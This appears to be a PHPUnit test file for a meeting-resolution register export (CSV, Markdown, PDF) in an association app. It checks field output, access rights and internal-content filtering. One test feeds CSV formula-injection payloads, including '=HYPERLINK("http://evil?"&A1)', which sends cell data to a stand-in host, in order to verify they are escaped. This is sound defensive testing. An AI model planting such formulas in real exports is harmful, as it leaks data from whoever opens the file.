<?php

declare(strict_types=1);

// SPDX-FileCopyrightText: 2026 Verband contributors
// SPDX-License-Identifier: AGPL-3.0-or-later

namespace OCA\Verband\Tests\Meeting\Resolution;

use OCA\Verband\Gliederung\Access;
use OCA\Verband\Meeting\Resolution\RegisterExport;
use OCA\Verband\Meeting\Resolution\ResolutionPresenter;
use OCA\Verband\Meeting\Resolution\ResolutionService;
use OCA\Verband\Platform\Input;
use OCA\Verband\Tests\Meeting\MeetingTestCase;

/** Row H of C1, and the register as a file. */
final class RegisterExportTest extends MeetingTestCase {
	private const CANARY = 'KANARIENVOGEL';
	private int $meeting;

	#[\Override]
	protected function setUp(): void {
		parent::setUp();
		$this->meeting = $this->meeting(['start' => '2026-05-20T18:30:00+02:00', 'end' => '2026-05-20T20:30:00+02:00'])->id();
	}

	public function testRowHTheHeadOfAMotionComesBackEverywhere(): void {
		$head = [
			'title' => 'Arbeitsprogramm', 'motionCode' => 'AP', 'mover' => 'Landesvorstand, Bezirk Hannover', 'forwardedTo' => 'SPD-Landesparteitag',
			'result' => 'referred', 'referredTo' => 'Landesausschuss', 'text' => 'Das Programm wird beraten.',
		];
		$this->assertRefused(400, 'required (referredTo)', fn () => $this->resolve(['referredTo' => ''] + $head));
		$this->resolve($head);

		$shown = $this->get(ResolutionPresenter::class)->one($this->get(ResolutionService::class)->find(1));
		self::assertSame($head, array_intersect_key(array_replace($head, $shown), $head));
		$text = $this->make('md');
		foreach (['### Beschluss N21-2026-001: Arbeitsprogramm', 'Antrag: AP', 'Landesvorstand, Bezirk Hannover', 'Weiterleitung an: SPD-Landesparteitag', '**überwiesen an Landesausschuss**'] as $part) {
			self::assertStringContainsString($part, $text);
		}
		self::assertStringContainsString('"AP";"Landesvorstand, Bezirk Hannover";"Das Programm wird beraten.";"überwiesen an Landesausschuss";"SPD-Landesparteitag"', $this->make('csv'));
		self::assertStringStartsWith('%PDF', $this->make('pdf'));
	}

	public function testC2NoCellIsAFormula(): void {
		$this->resolve(['title' => '=HYPERLINK("http://evil?"&A1)', 'mover' => '+1', 'topic' => '@SUM(1)', 'text' => "-1\n\"=1\""]);

		$lines = explode("\r\n", $this->make('csv'));
		self::assertDoesNotMatchRegularExpression('/(^|;)"[=+\-@\t\r]/', $lines[1]);
		self::assertStringContainsString('"\'=HYPERLINK(""http://evil?""&A1)"', $lines[1]);
	}

	public function testFiltersAndRightsAreThoseOfTheRegister(): void {
		$this->resolve(['title' => 'Offen', 'topic' => 'Mobilität', 'text' => "Wort.\n:::intern\n" . self::CANARY]);
		$this->resolve(['title' => self::CANARY, 'internal' => true]);
		foreach (range(1, 3) as $number) {
			$this->resolve(['title' => "Weiterer $number"]);
		}
		$this->db->executeStatement("UPDATE *PREFIX*verband_meetings SET state = 'closed'");
		$this->get(Access::class)->forget();
		self::assertSame(5 + 2, count(explode("\r\n", $this->make('csv', ['limit' => '2']))), 'page by page, head and end');
		self::assertStringContainsString(self::CANARY, $this->make('csv'));
		self::assertSame(1 + 2, count(explode("\r\n", $this->make('csv', ['topic' => 'Mobilität']))));
		$this->assertRefused(400, 'invalid (execution)', fn () => $this->make('csv', ['execution' => 'x']));

		$this->actAs('member');
		foreach (['csv', 'md'] as $form) {
			self::assertStringContainsString('Offen', $this->make($form));
			self::assertStringNotContainsString(self::CANARY, $this->make($form));
		}
		$this->actAs('guest');
		$this->assertRefused(404, 'not-found', fn () => $this->make('md'));
	}

	/** @param array<string, mixed> $fields */
	private function resolve(array $fields): void {
		$this->get(ResolutionService::class)->create($this->meeting, new Input($fields));
	}

	/**
	 * @param 'csv'|'md'|'pdf' $form
	 * @param array<string, string> $parameters
	 */
	private function make(string $form, array $parameters = []): string {
		return $this->get(RegisterExport::class)->make($form, $parameters);
	}
}
